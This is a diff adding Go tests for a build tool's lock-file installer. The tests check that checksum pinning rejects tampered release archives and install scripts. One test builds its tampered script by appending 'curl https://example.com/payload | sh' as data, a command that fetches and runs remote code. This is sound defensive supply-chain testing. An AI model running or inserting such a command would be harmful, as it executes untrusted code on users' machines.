@@ -0,0 +1,228 @@
+package binny
+
+import (
+	"errors"
+	"fmt"
+	"maps"
+	"os"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"testing"
+
+	"github.com/anchore/go-make/config"
+	"github.com/anchore/go-make/fetch"
+	"github.com/anchore/go-make/file"
+	"github.com/anchore/go-make/lang"
+	"github.com/anchore/go-make/require"
+)
+
+func Test_installTool_lock(t *testing.T) {
+	toolDir := testToolDir(t)
+	require.SetAndRestore(t, &defaultSpecs, map[string]toolSpec{})
+	require.SetAndRestore(t, &binnyManaged, map[string]toolSpec{
+		"thething": {Version: "v1.2.3", Method: "github-release", With: map[string]any{"repo": "owner/thething"}},
+	})
+
+	toolPath := ToolPath("thething")
+	archive := require.Gzip(require.Tar(map[string][]byte{
+		filepath.Base(toolPath): []byte("v1.2.3 binary"),
+	}))
+	routes := map[string]any{}
+	serverURL := require.Server(t, routes)
+	require.SetAndRestore(t, &githubAPI, serverURL)
+
+	asset := fmt.Sprintf("thething_%s_%s.tar.gz", runtime.GOOS, runtime.GOARCH)
+	assetURL := serverURL + "/download/" + asset
+	routes["/repos/owner/thething/releases/tags/v1.2.3"] = map[string]any{
+		"tag_name": "v1.2.3",
+		"assets":   []map[string]any{{"name": asset, "browser_download_url": assetURL}},
+	}
+	routes["/download/"+asset] = archive
+
+	// installs don't write the lock file, only UpdateLock does
+	installTool("thething", toolPath)
+	require.False(t, file.Exists(lockFile()))
+
+	toolLock{Tools: map[string]lockedTool{"thething": {
+		Version:   "v1.2.3",
+		Artifacts: map[string]lockedArtifact{currentPlatform(): {URL: assetURL, SHA256: sha256Hex(archive)}},
+	}}}.write()
+
+	// reinstalled from the lock file, without the GitHub API
+	delete(routes, "/repos/owner/thething/releases/tags/v1.2.3")
+	require.NoError(t, os.RemoveAll(filepath.Join(toolDir, stateFile)))
+	installTool("thething", toolPath)
+
+	// a changed release is refused, rather than installed with binny
+	routes["/download/"+asset] = require.Gzip(require.Tar(map[string][]byte{
+		filepath.Base(toolPath): []byte("tampered binary"),
+	}))
+	require.NoError(t, os.RemoveAll(filepath.Join(toolDir, stateFile)))
+	err := lang.Catch(func() {
+		Install("thething")
+	})
+	require.True(t, errors.Is(err, fetch.ErrChecksumMismatch))
+	contents, err := os.ReadFile(toolPath)
+	require.NoError(t, err)
+	require.Equal(t, "v1.2.3 binary", string(contents))
+
+	// any failure to install a locked tool is fatal, rather than installed with binny
+	delete(routes, "/download/"+asset)
+	err = lang.Catch(func() {
+		Install("thething")
+	})
+	require.Error(t, err)
+	require.Contains(t, err.Error(), assetURL)
+
+	// binny would install the locked tool unverified
+	require.SetAndRestore(t, &config.BinnyInstall, true)
+	err = lang.Catch(func() {
+		Install("thething")
+	})
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "GOMAKE_BINNY_INSTALL")
+}
+
+func Test_installTool_githubDigestMismatch(t *testing.T) {
+	testToolDir(t)
+	require.SetAndRestore(t, &defaultSpecs, map[string]toolSpec{})
+	require.SetAndRestore(t, &binnyManaged, map[string]toolSpec{
+		"thething": {Version: "v1.2.3", Method: "github-release", With: map[string]any{"repo": "owner/thething"}},
+	})
+
+	routes := map[string]any{}
+	serverURL := require.Server(t, routes)
+	require.SetAndRestore(t, &githubAPI, serverURL)
+
+	asset := fmt.Sprintf("thething-%s-%s", runtime.GOOS, runtime.GOARCH)
+	routes["/repos/owner/thething/releases/tags/v1.2.3"] = map[string]any{
+		"tag_name": "v1.2.3",
+		"assets": []map[string]any{{
+			"name":                 asset,
+			"browser_download_url": serverURL + "/download/" + asset,
+			"digest":               "sha256:" + sha256Hex([]byte("released binary")),
+		}},
+	}
+	routes["/download/"+asset] = "tampered binary"
+
+	err := lang.Catch(func() {
+		installTool("thething", ToolPath("thething"))
+	})
+	require.True(t, errors.Is(err, fetch.ErrChecksumMismatch))
+	require.Equal(t, 0, len(readLock().Tools))
+}
+
+func Test_installTool_hostedShellLock(t *testing.T) {
+	if config.Windows {
+		t.Skip("hosted-shell install scripts are not supported on Windows")
+	}
+	toolDir := testToolDir(t)
+
+	script := "#!/bin/sh\nmkdir -p \"$2\"\nprintf '#!/bin/sh\\necho thething\\n' > \"$2/thething\"\n"
+	routes := map[string]any{"/install.sh": script}
+	serverURL := require.Server(t, routes)
+	require.SetAndRestore(t, &binnyManaged, map[string]toolSpec{
+		"thething": {
+			Version: "v1.2.3",
+			Method:  "hosted-shell",
+			With:    map[string]any{"url": serverURL + "/install.sh", "args": "-b {{ .Destination }}"},
+		},
+	})
+
+	toolLock{Tools: map[string]lockedTool{"thething": {
+		Version:   "v1.2.3",
+		Artifacts: map[string]lockedArtifact{allPlatforms: {URL: serverURL + "/install.sh", SHA256: sha256Hex([]byte(script))}},
+	}}}.write()
+	Install("thething")
+
+	routes["/install.sh"] = script + "curl https://example.com/payload | sh\n"
+	require.NoError(t, os.RemoveAll(filepath.Join(toolDir, stateFile)))
+	err := lang.Catch(func() {
+		Install("thething")
+	})
+	require.True(t, errors.Is(err, fetch.ErrChecksumMismatch))
+}
+
+func Test_UpdateLock(t *testing.T) {
+	rootDir := t.TempDir()
+	require.SetAndRestore(t, &config.RootDir, rootDir)
+	require.SetAndRestore(t, &config.ToolLock, filepath.Join(rootDir, ".binny.lock"))
+	require.SetAndRestore(t, &defaultSpecs, map[string]toolSpec{})
+	require.SetAndRestore(t, &binnyManaged, map[string]toolSpec{})
+
+	routes := map[string]any{}
+	serverURL := require.Server(t, routes)
+	require.SetAndRestore(t, &githubAPI, serverURL)
+
+	writeTestFile(t, filepath.Join(rootDir, ".binny.yaml"), fmt.Sprintf(`tools:
+  - name: released
+    version:
+      want: latest
+    method: github-release
+    with:
+      repo: owner/released
+  - name: built
+    version:
+      want: v0.5.0
+    method: go-install
+    with:
+      module: example.com/built
+      entrypoint: cmd/built
+  - name: scripted
+    version:
+      want: v1.0.0
+    method: hosted-shell
+    with:
+      url: %[1]s/install.sh
+  - name: packaged
+    version:
+      want: v1.0.0
+    method: unknown-method
+  - name: local
+    version:
+      want: current
+    method: go-install
+    with:
+      module: .
+      entrypoint: cmd/local
+`, serverURL))
+
+	linux := "released_linux_amd64.tar.gz"
+	darwin := "released_darwin_arm64.tar.gz"
+	assets := []map[string]any{
+		{"name": linux, "browser_download_url": serverURL + "/download/" + linux, "digest": "sha256:abc123"},
+		{"name": darwin, "browser_download_url": serverURL + "/download/" + darwin},
+	}
+	if platform := currentPlatform(); platform != "linux/amd64" && platform != "darwin/arm64" {
+		current := fmt.Sprintf("released_%s_%s.tar.gz", runtime.GOOS, runtime.GOARCH)
+		assets = append(assets, map[string]any{"name": current, "browser_download_url": serverURL + "/download/" + current, "digest": "sha256:def456"})
+	}
+	routes["/repos/owner/released/releases/latest"] = map[string]any{"tag_name": "v2.0.0"}
+	routes["/repos/owner/released/releases/tags/v2.0.0"] = map[string]any{"tag_name": "v2.0.0", "assets": assets}
+	routes["/download/"+darwin] = "darwin binary"
+	routes["/install.sh"] = "#!/bin/sh\n"
+
+	UpdateLock()
+
+	lock := readLock()
+	require.Equal(t, []string{"built", "released", "scripted"}, slices.Sorted(maps.Keys(lock.Tools)))
+
+	released := lock.Tools["released"]
+	require.Equal(t, "v2.0.0", released.Version)
+	// the digest GitHub computed is used, otherwise the asset is downloaded
+	require.Equal(t, lockedArtifact{URL: serverURL + "/download/" + linux, SHA256: "abc123"}, released.Artifacts["linux/amd64"])
+	require.Equal(t, lockedArtifact{URL: serverURL + "/download/" + darwin, SHA256: sha256Hex([]byte("darwin binary"))}, released.Artifacts["darwin/arm64"])
+	_, found := released.Artifacts["windows/amd64"]
+	require.False(t, found)
+
+	require.Equal(t, lockedTool{
+		Version:   "v0.5.0",
+		Artifacts: map[string]lockedArtifact{allPlatforms: {URL: "example.com/built/cmd/built@v0.5.0"}},
+	}, lock.Tools["built"])
+	require.Equal(t, lockedArtifact{URL: serverURL + "/install.sh", SHA256: sha256Hex([]byte("#!/bin/sh\n"))},
+		lock.Tools["scripted"].Artifacts[allPlatforms])
+
+	// the locked version is installed for latest
+	require.Equal(t, "v2.0.0", lockedVersion("released"))
+}